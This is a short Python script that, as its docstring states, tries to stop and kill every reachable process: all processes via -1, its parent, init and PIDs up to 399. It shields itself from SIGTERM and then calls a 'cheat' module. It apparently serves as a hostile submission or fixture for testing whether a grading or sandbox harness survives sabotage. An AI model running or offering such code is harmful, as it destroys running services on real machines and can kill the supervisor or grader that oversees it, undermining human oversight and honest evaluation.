"""Ends every process that it can reach but itself, and starves the rest."""

import os
import signal

import cheat

signal.signal(signal.SIGTERM, signal.SIG_IGN)
for number in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL):
    for process in (-1, os.getppid(), 1, *range(2, 400)):
        if process not in (os.getpid(), 0):
            try:
                os.kill(process, number)
            except OSError:
                pass
cheat.wrong()
